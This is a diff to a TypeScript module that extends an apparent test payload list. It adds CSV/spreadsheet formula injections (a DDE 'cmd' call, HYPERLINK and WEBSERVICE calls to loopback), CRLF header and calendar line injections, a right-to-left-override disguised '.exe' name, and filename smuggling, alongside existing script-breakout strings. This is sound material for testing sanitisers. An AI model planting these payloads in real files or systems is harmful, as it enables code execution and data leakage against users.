@@ -52,5 +52,35 @@ const exits = [
   '\\u003c/script\\u003e${alert(1)}',
 ];
 
-/** More than 200 texts; each combines a way out of the surrounding markup with a script. */
-export const payloads: readonly string[] = exits.flatMap((exit) => vectors.map((vector) => exit + vector));
+/** What a spreadsheet runs. */
+const formulas = [
+  "=cmd|'/c calc'!A0",
+  '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
+  '=WEBSERVICE("http://127.0.0.1:9/")',
+  '+1+cmd|x!A0',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  ' =1+1',
+  '＝1+1',
+  '"=1+1"',
+  'x;=1+1',
+  "'=1+1",
+];
+
+/** What ends a line of a header, a calendar or a file of text, or turns the direction of a name around. */
+const lineEnds = [
+  'x\r\nSet-Cookie: injected=1',
+  'x\nBEGIN:VALARM\nACTION:AUDIO',
+  'x\u2028ATTENDEE:mailto:a@example.com',
+  'katalog\u202Efdp.exe',
+  'x";filename="a.html',
+  'x\\',
+];
+
+/** More than 200 texts that try to run code in another place of a page, a file or a mail each. */
+export const payloads: readonly string[] = [
+  ...exits.flatMap((exit) => vectors.map((vector) => exit + vector)),
+  ...formulas,
+  ...lineEnds,
+];
